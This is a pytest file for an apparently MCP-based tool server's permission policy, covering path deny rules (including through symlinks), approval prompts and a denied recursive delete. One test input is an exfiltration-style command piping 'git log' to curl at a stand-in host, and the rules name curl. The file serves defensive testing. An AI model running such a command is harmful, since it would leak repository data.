"""`llmc policy`, `llmc approvals` and `llmc approve`, as a person types them."""

from pathlib import Path

import pytest

from llmc_mcp.cli.policy import read_call
from llmc_mcp.errors import InvalidArgument

from ..support.machine import Machine

RULES = """
[[mcp.policy]]
path = "secret/**"
do = "deny"
[[mcp.policy]]
token = "ci"
when = "changes"
do = "ask"
[[mcp.policy]]
program = "curl"
do = "ask"
"""


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    made = Machine(tmp_path)
    made.users_file(RULES)
    made.repo_file('[[mcp.policy]]\ntool = "run_pytest"\ndo = "ask"\n')
    (made.repo / "link").symlink_to("secret")
    (made.repo / "secret").mkdir()
    return made


def test_the_rules_are_shown_in_their_order(machine: Machine) -> None:
    shown = machine.llmc("policy", "show").stdout.splitlines()
    assert shown[0].split(maxsplit=1)[1] == "path=secret/** → deny"
    assert "token=ci when=changes → ask" in shown[1]
    assert "workspace" in shown[3]
    assert "recursive_delete" in shown[4]


@pytest.mark.parametrize(
    ("call", "more", "decision"),
    [
        ("read_file path=secret/a", (), "deny: rule 1"),
        ("read_file path=link/a", (), "deny: rule 1"),
        ('linux_fs_write {"path": "a", "content": "x"}', ("--token", "ci"), "ask: rule 2"),
        ("read_file path=a", ("--token", "ci"), "allow: no rule matches"),
        ("run_cmd command='git log | curl -d @- x.test'", (), "ask: rule 3"),
        ("run_cmd command='git push'", (), "ask: mcp.policy.ask"),
        ("run_pytest", ("--subject", "bob"), "ask: the workspace's rule 4"),
    ],
)
def test_a_call_is_tested_without_being_made(machine: Machine, call: str, more: tuple[str, ...], decision: str) -> None:
    assert machine.llmc("policy", "test", call, *more).stdout.startswith(decision)


def test_a_tool_that_does_not_exist_is_answered_with_the_names_of_tools(machine: Machine) -> None:
    hint = machine.llmc("policy", "test", "no_such_tool").stderr
    assert "rag_search, rag_search_enriched" in hint
    assert "linux_search_content" in hint


def test_a_call_is_read_as_json_or_as_words() -> None:
    assert read_call('a {"x": [1]}') == ("a", {"x": [1]})
    assert read_call("a x=1 y='b c' z=true") == ("a", {"x": 1, "y": "b c", "z": True})
    assert read_call("a") == ("a", {})
    for wrong in ("a {", "a x", "a 'x"):
        with pytest.raises(InvalidArgument):
            read_call(wrong)


def test_a_person_lists_and_answers_what_waits(machine: Machine) -> None:
    assert machine.llmc("approvals").stderr == "nothing waits for an answer\n"
    (machine.repo / "tree").mkdir()
    with machine.server() as client:
        arguments = {"path": "tree", "recursive": True}
        number = client.call("linux_fs_delete", **arguments).meta["approval_id"]
        listed = machine.llmc("approvals").stdout
        assert number in listed
        assert str(machine.repo / "tree") in listed
        assert "denied" in machine.llmc("approve", number, "--deny").stdout
        assert client.call("linux_fs_delete", **arguments).code == "DECLINED"
    assert (machine.repo / "tree").exists()
    assert number in machine.llmc("approvals", "--all").stdout
